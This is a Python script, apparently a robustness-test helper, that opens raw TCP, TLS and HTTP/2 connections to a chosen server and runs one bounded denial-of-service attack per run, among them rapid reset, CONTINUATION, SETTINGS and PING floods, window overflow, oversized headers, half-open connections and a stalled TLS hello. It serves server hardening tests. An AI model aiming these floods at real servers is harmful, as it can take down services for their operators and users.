#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A peer that does not behave: one attack a run, on one address and port.

    hostile_client.py ATTACK ADDRESS PORT [CERT KEY]

It prints what the other side did: `closed`, `refused: WHY`, `accepted STATUS`, `stalled after N`, `survived N`. It judges
nothing; the test that runs it does. Each attack is bounded in bytes, frames and time.
"""
import os
import socket
import ssl
import struct
import sys
import time

LIMIT_S = 20
MANY = 1000000  # more than the buffers on the way hold
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, bits, first):
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out = [first | most]
    value -= most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def field(name, value):
    """A literal header field without indexing (RFC 7541, 6.2.2)."""
    name, value = name.encode(), value.encode()
    return b"\0" + integer(len(name), 7, 0) + name + integer(len(value), 7, 0) + value


def connect_block(authority):
    return field(":method", "CONNECT") + field(":authority", authority)


def tcp(address, port):
    s = socket.create_connection((address, port), timeout=LIMIT_S)
    s.settimeout(LIMIT_S)
    return s


def tls(address, port, cert=None, key=None, most=None):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    if most:
        context.maximum_version = most
    if cert:
        context.load_cert_chain(cert, key)
    return context.wrap_socket(tcp(address, port))


def read_to_end(s):
    """Bytes until the other side closes; None when it does not within the limit."""
    end, out = time.monotonic() + LIMIT_S, b""
    try:
        while time.monotonic() < end:
            chunk = s.recv(65536)
            if not chunk:
                return out
            out = (out + chunk)[-65536:]
    except (ConnectionError, ssl.SSLError):
        return out
    except TimeoutError:
        pass
    return None


def open_h2(address, port, cert, key):
    s = tls(address, port, cert, key)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return s


def flood(s, make, count):
    """Sends make(i) count times, reading nothing; how far it got."""
    sent = 0
    try:
        for i in range(0, count, 100):
            s.sendall(b"".join(make(j) for j in range(i, min(i + 100, count))))
            sent = min(i + 100, count)
        rest = read_to_end(s)
    except TimeoutError:
        return f"stalled after {sent}"
    except (ConnectionError, ssl.SSLError):
        return f"closed after {sent}"
    return f"survived {sent}" if rest is None else f"closed after {sent}"


def handshake(address, port, cert=None, key=None, most=None):
    """Is a request answered? In TLS 1.3 a refused certificate shows at the first read."""
    try:
        s = tls(address, port, cert, key, most)
        s.sendall(PREFACE + frame(SETTINGS, 0, 0)
                  + frame(HEADERS, END_HEADERS, 1, connect_block(f"{address}:7000")))
        s.settimeout(3)
        if s.recv(65536):
            return "accepted"
        return "closed"
    except (ssl.SSLError, ConnectionError) as e:
        return f"refused: {e}"
    except TimeoutError:
        return "no answer"


def garbage(address, port, *_):
    try:
        s = tcp(address, port)
        s.sendall(os.urandom(65536))
    except ConnectionError:
        return "closed"
    return "survived" if read_to_end(s) is None else "closed"


def huge_header(address, port, cert, key):
    s = open_h2(address, port, cert, key)
    block = connect_block(f"{address}:7000") + field("x-filler", "a" * 1000000)
    parts = [block[i:i + 16000] for i in range(0, len(block), 16000)]
    frames = frame(HEADERS, 0, 1, parts[0]) + b"".join(frame(CONTINUATION, 0, 1, p) for p in parts[1:-1])
    return flood(s, lambda i: frames if i == 0 else frame(CONTINUATION, END_HEADERS, 1, parts[-1]) if i == 1 else b"", 2)


def continuation_flood(address, port, cert, key):
    s = open_h2(address, port, cert, key)
    s.sendall(frame(HEADERS, 0, 1, connect_block(f"{address}:7000")))
    return flood(s, lambda i: frame(CONTINUATION, 0, 1, b""), 100000)


def rapid_reset(address, port, cert, key):
    s = open_h2(address, port, cert, key)
    block = connect_block(f"{address}:7000")
    return flood(s, lambda i: frame(HEADERS, END_HEADERS, 2 * i + 1, block)
                 + frame(RST, 0, 2 * i + 1, struct.pack(">I", 8)), MANY)


def settings_flood(address, port, cert, key):
    return flood(open_h2(address, port, cert, key), lambda i: frame(SETTINGS, 0, 0), 200000)


def ping_flood(address, port, cert, key):
    return flood(open_h2(address, port, cert, key), lambda i: frame(PING, 0, 0, b"12345678"), 200000)


def bad_requests(address, port, cert, key):
    """Requests that each end in a 400."""
    s = open_h2(address, port, cert, key)
    block = connect_block("192.0.2.1:7000")
    return flood(s, lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block), MANY)


def window_overflow(address, port, cert, key):
    s = open_h2(address, port, cert, key)
    s.sendall(frame(WINDOW, 0, 0, struct.pack(">I", 0x7fffffff)))
    return flood(s, lambda i: frame(WINDOW, 0, 0, struct.pack(">I", 0x7fffffff)), 10)


def ignored_window(address, port, cert, key):
    """Sends 256 MB on one stream and looks at no window: that ends the connection."""
    s = open_h2(address, port, cert, key)
    s.sendall(frame(HEADERS, END_HEADERS, 1, connect_block(f"{address}:7000")))
    return flood(s, lambda i: frame(DATA, 0, 1, b"x" * 16000), 16000)


def half_open(address, port, *_):
    """Connections that never say anything; then is one more served?"""
    held = [tcp(address, port) for _ in range(500)]
    time.sleep(1)
    return f"survived {len(held)}"


def slow_hello(address, port, *_):
    """A handshake that stays unfinished must end by itself."""
    s = tcp(address, port)
    s.sendall(b"\x16\x03\x01\x02\x00\x01")
    return "survived" if read_to_end(s) is None else "closed"


def tls12(address, port, cert, key):
    return handshake(address, port, cert, key, ssl.TLSVersion.TLSv1_2)


ATTACKS = {f.__name__: f for f in (
    garbage, huge_header, continuation_flood, rapid_reset, settings_flood, ping_flood, bad_requests,
    window_overflow, ignored_window, half_open, slow_hello, tls12, handshake)}


def main():
    attack, address, port, *rest = sys.argv[1:]
    print(ATTACKS[attack](address, int(port), *rest))


main()
